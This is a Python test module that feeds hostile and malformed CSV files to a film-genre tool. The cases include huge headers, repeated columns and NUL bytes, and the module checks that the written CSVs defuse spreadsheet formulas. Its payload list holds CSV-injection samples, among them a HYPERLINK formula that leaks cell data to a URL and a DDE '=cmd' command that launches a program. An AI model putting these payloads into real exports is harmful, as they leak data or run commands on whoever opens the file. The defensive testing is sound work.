"""Issue 33, items 5, 9, 11 and 12: a hostile or malformed films CSV.

Each replay runs ``python -m genre_models.evaluate --all-films --models tfidf`` (the function the page's
Your films tab and ``/evaluate_films`` call, with a model that works offline) in a fresh process, and the
training loader (``load_dataset``, what ``train``, ``evaluate`` and ``reproduce`` read) beside it:

- 5: a header of 100,000 columns over 2,000 short rows (the issue's 830 KB file), against the same rows
  under the usual six columns: refused in one line naming the limits, at the normal file's cost; other
  members: 300 columns, one header name of 20,000 characters, a row of two million cells, a quote never
  closed, and a 250-column export (within the limits: scored, its memory that of the six columns).
- 9: film ids that are formulas (the issue's, and a minus, a leading space, a full-width ``＝``, an
  invisible character before ``@``): every cell of ``predictions.csv`` and of the dataset builder's
  ``movies.csv`` starts with a ``'``, the rest as written.
- 11: a repeated column name (``…,genres,plot``, the issue's; a name repeated once stripped; ``id,id``):
  refused in one line naming it, by both readers.
- 12: a NUL byte in a poster cell, in a title, and poster names the system refuses (300 characters, a
  5,000-character path): each costs its row, named by line; the good rows are scored.
"""
from __future__ import annotations

import csv
import textwrap
import unicodedata
from pathlib import Path

from .common import Kind, Outcome, against, measure

HEADER = ["id", "title", "year", "genres", "plot", "poster"]
ROWS = 2000
TIMEOUT_S = 240


def _row(i: int) -> list[str]:
    return [f"f{i}", f"Film {i}", "2000", "Drama|Comedy", f"A man meets a woman in a small town, year {i}.", ""]


def _write(path: Path, header: list[str] | str, rows: list[list[str]] | str) -> Path:
    """A CSV; a ``str`` header or rows part is written as it is (for text csv.writer would not make)."""
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        for part, write in ((header, writer.writerow), (rows, writer.writerows)):
            if isinstance(part, str):
                handle.write(part)
            else:
                write(part)
    return path


def _evaluate_code(paths: list[Path], out: Path, load_too: bool = True, then: str = "") -> str:
    """A child's code: for each CSV, the CLI's Your-films evaluation and the training loader's reading of it,
    printed as one JSON list of {rc, error (the CLI's error lines), printed (stdout), load (the loader's
    answer)}; ``then``: more code run after, whose ``extra`` value joins the JSON."""
    return textwrap.dedent(f"""
        import contextlib, io, json
        from genre_models import evaluate
        from genre_models.data.films import load_dataset
        from genre_models.errors import GenreLensError
        answers, extra = [], None
        for n, path in enumerate({[str(p) for p in paths]!r}):
            err, printed = io.StringIO(), io.StringIO()
            with contextlib.redirect_stderr(err), contextlib.redirect_stdout(printed):
                rc = evaluate.main(["--all-films", "--data", path, "--models", "tfidf", "--out", {str(out)!r} + str(n)])
            load = None
            if {load_too!r}:
                try:
                    load = "read %d films" % len(load_dataset(path, verify_posters=False))
                except GenreLensError as exc:
                    load = "refused: " + str(exc)
            errors = [line for line in err.getvalue().splitlines() if line.startswith("error:")]
            answers.append({{"rc": rc, "error": errors, "printed": printed.getvalue(), "load": load}})
    """) + textwrap.dedent(then) + "\nprint(json.dumps({'answers': answers, 'extra': extra}))\n"


def _one_line(error: list[str]) -> bool:
    return len(error) == 1 and "\n" not in error[0] and "Traceback" not in error[0]


# -- 5: memory for a CSV follows the columns read --------------------------------------------------------

def _answer(measured) -> dict:
    result = measured.result() or {}
    return (result.get("answers") or [{"rc": measured.returncode, "error": [result.get("error")], "load": None}])[0]


def run_wide_header(workdir: Path) -> Outcome:
    rows = [_row(i)[:5] for i in range(ROWS)]  # short rows: no poster cell
    wide = _write(workdir / "wide.csv", HEADER + [f"c{i}" for i in range(100_000 - len(HEADER))], rows)
    normal = _write(workdir / "normal.csv", HEADER, [_row(i) for i in range(ROWS)])
    export = _write(workdir / "export.csv", HEADER + [f"extra {i}" for i in range(244)],
                    [_row(i) + [f"v{j}" for j in range(244)] for i in range(ROWS)])
    members = {
        "300 columns": _write(workdir / "columns.csv", HEADER + [f"c{i}" for i in range(294)], rows),
        "a 20,000-character name": _write(workdir / "name.csv", HEADER[:5] + ["n" * 20_000], rows),
        "a row of 2 million cells": _write(workdir / "cells.csv", HEADER, [_row(0), _row(1)[:3] + ["ab"] * 2_000_000]),
        "a quote never closed": _write(workdir / "quote.csv", HEADER, 'f0,A,2000,Drama,"a plot\n' + "more\n" * 300_000),
    }
    bad = measure(_evaluate_code([wide], workdir / "out-wide", load_too=False), timeout=TIMEOUT_S)
    base = measure(_evaluate_code([normal], workdir / "out-normal", load_too=False), timeout=TIMEOUT_S)
    wide_ok = measure(_evaluate_code([export], workdir / "out-export", load_too=False), timeout=TIMEOUT_S)
    others = measure(_evaluate_code(list(members.values()), workdir / "out-member"), timeout=TIMEOUT_S).result()
    refused, problems = _answer(bad), []
    if not (refused["rc"] == 2 and _one_line(refused["error"]) and "the limits are 256 columns" in refused["error"][0]):
        problems.append(f"100,000 columns: {refused}")
    if bad.peak_mb > 1.1 * base.peak_mb:
        problems.append(f"100,000 columns cost more than the same rows under 6 columns ({against(bad, base)})")
    if _answer(wide_ok)["rc"] != 0 or wide_ok.peak_mb > 1.15 * base.peak_mb:
        problems.append(f"a 250-column export: {_answer(wide_ok)['error']}, {against(wide_ok, base)}")
    for name, answer in zip(members, (others or {}).get("answers") or [{}] * len(members)):
        if not (answer.get("rc") == 2 and _one_line(answer["error"]) and answer["error"][0].startswith("error: line ")
                and str(answer["load"]).startswith("refused: ")):
            problems.append(f"{name}: {answer or others}")
    observed = (problems[0] if problems else f"refused: {refused['error'][0][len('error: '):]}; also refused by line "
                f"(both readers): {', '.join(members)}; a 250-column export scored")
    return Outcome(not problems, observed[:600], f"100,000 columns: {against(bad, base)}; 250 columns (scored): "
                                                 f"{against(wide_ok, base)}")


# -- 9: no cell GenreLens writes is a formula -----------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/leak?x="&A1,"details")', "+1+1", "@SUM(1,1)", "-2+3",
            "=cmd|' /C calc'!A0", " =1+1", "\uff1d1+1", "\u200b@SUM(1,1)", "-1"]


def _runs(cell: str) -> bool:
    """Whether a spreadsheet would read ``cell`` as a formula (OWASP's list, past spaces and invisible marks,
    full-width signs folded): checked here apart from the code under test."""
    if cell.startswith(("\t", "\r", "\n", "\0")):
        return True
    return unicodedata.normalize("NFKC", cell.lstrip(" \u200b\u2060\ufeff"))[:1] in ("=", "+", "-", "@")


def run_formula_cells(workdir: Path) -> Outcome:
    films = _write(workdir / "films.csv", HEADER, [[i] + _row(n)[1:] for n, i in enumerate(FORMULAS)] + [_row(99)])
    built = workdir / "movies.csv"
    table = [[f"tt{n:07d}", title, "2000", "Comedy", title, ""] for n, title in enumerate(FORMULAS)]
    done = measure(_evaluate_code([films], workdir / "out", load_too=False, then=f"""
        from pathlib import Path
        from genre_models.data.builder.build import _write_csv_atomically  # the dataset builder's writer
        _write_csv_atomically(Path({str(built)!r}), {table!r})
    """), timeout=TIMEOUT_S)
    answer = _answer(done)
    if answer["rc"] != 0 or not built.is_file():
        return Outcome(False, f"evaluate: {answer['rc']} {answer['error']}; builder wrote: {built.is_file()}")
    with open(workdir / "out0" / "predictions.csv", newline="", encoding="utf-8") as handle:
        predictions = list(csv.reader(handle))
    with open(built, newline="", encoding="utf-8") as handle:
        movies = list(csv.reader(handle))
    live = [cell for table in (predictions, movies) for row in table for cell in row if _runs(cell)]
    ids = [row[0] for row in predictions[1:]]
    kept = ids == ["'" + i.strip() for i in FORMULAS] + ["f99"] and [row[1] for row in movies[1:]] == [
        "'" + t for t in FORMULAS]
    observed = (f"{len(live)} cell(s) a spreadsheet runs in predictions.csv and the builder's movies.csv"
                + (f" (e.g. {live[0]!r})" if live else f"; {len(FORMULAS)} formula ids each written as '<id>, "
                   "the rest as written"))
    return Outcome(not live and kept, observed if kept else observed + f"; ids written: {ids[:4]}")


# -- 11: a repeated column name ---------------------------------------------------------------------------

def run_repeated_columns(workdir: Path) -> Outcome:
    rows = [_row(i) for i in range(20)]
    cases = {
        "'genres', 'plot'": _write(workdir / "issue.csv", HEADER + ["genres", "plot"],
                                   [r + ["Horror", "a ghost haunts a house"] for r in rows]),
        "'genres'": _write(workdir / "spaced.csv", "id,title,year, genres,plot,poster,genres \r\n", rows),
        "'id'": _write(workdir / "id.csv", ["id"] + HEADER, [["x"] + r for r in rows]),
    }
    done = measure(_evaluate_code(list(cases.values()), workdir / "out"), timeout=TIMEOUT_S).result() or {}
    problems = []
    for (named, path), answer in zip(cases.items(), done.get("answers") or [{}] * len(cases)):
        expected = f"line 1: column name(s) {named} appear more than once; name each column once"
        if answer.get("rc") != 2 or answer["error"] != [f"error: {expected}"] or expected not in str(answer["load"]):
            problems.append(f"{path.name}: {answer or done}")
    return Outcome(not problems, problems[0][:600] if problems else
                   f"refused in one line naming the names ({'; '.join(cases)}), by the CLI/page and the training "
                   "loader")


# -- 12: a bad cell costs its row ---------------------------------------------------------------------------

def run_bad_cells(workdir: Path) -> Outcome:
    (workdir / "p.png").write_bytes(b"a poster")  # looked up, never decoded: the rows are checked before it
    bad = [["n1", "Nul poster", "2000", "Drama", "a plot", "p\0.png"],
           ["n2", "Nul title\0", "2000", "Drama", "a plot", ""],
           ["l1", "Long name", "2000", "Drama", "a plot", "x" * 300 + ".png"],
           ["l2", "Long path", "2000", "Drama", "a plot", "d/" * 2500 + "p.png"]]
    good = [_row(i)[:5] + ["p.png"] for i in range(6)]
    films = _write(workdir / "films.csv", HEADER, good[:3] + bad + good[3:])
    # and the poster models' own path (none works offline): the rows read, each poster looked up in its folder
    done = measure(_evaluate_code([films], workdir / "out", then=f"""
        from pathlib import Path
        from genre_models.data.film_rows import read_records, validate_records
        films, skipped = validate_records(read_records({str(films)!r}), Path({str(workdir)!r}), needs_poster=True)
        extra = {{"films": [f.id for f in films], "skipped": skipped}}
    """), timeout=TIMEOUT_S).result() or {}
    answer, posters = (done.get("answers") or [{}])[0], done.get("extra") or {}
    problems = []
    if answer.get("rc") != 0 or "line 5: a NUL byte in column(s) poster; row skipped" not in answer["printed"]:
        problems.append(f"evaluate: {answer or done}")
    elif answer["load"] != "read 8 films":  # the training loader: the two NUL rows out, the long names no poster
        problems.append(f"load_dataset: {answer['load']}")
    named = [line.split(";")[0] for line in posters.get("skipped", [])]
    if posters.get("films") != [f"f{i}" for i in range(6)] or [n.split(":")[0] for n in named] != [
            "line 5", "line 6", "line 7", "line 8"]:
        problems.append(f"posters looked up: {posters or done}")
    return Outcome(not problems, problems[0][:600] if problems else
                   "each bad row named and skipped, the 6 good rows scored: " + " | ".join(named))


KINDS = [
    Kind(5, "CSV: a 100,000-column header, long rows", "memory follows the columns read; an absurd header or row "
         "is refused in one line naming the limit (256 columns, 10,000 header characters, 1,000,000 per row)",
         run_wide_header),
    Kind(9, "CSV: formula cells in what GenreLens writes", "every cell a spreadsheet would run (= + - @, tab, CR) "
         "is written with a leading ' (predictions.csv, page and CLI; the builder's movies.csv)", run_formula_cells),
    Kind(11, "CSV: a repeated column name", "refused in one line naming the repeated names, by every reader",
         run_repeated_columns),
    Kind(12, "CSV: a NUL byte or unusable name in a cell", "the bad cell costs its row, named with its CSV line; "
         "the good rows are scored", run_bad_cells),
]
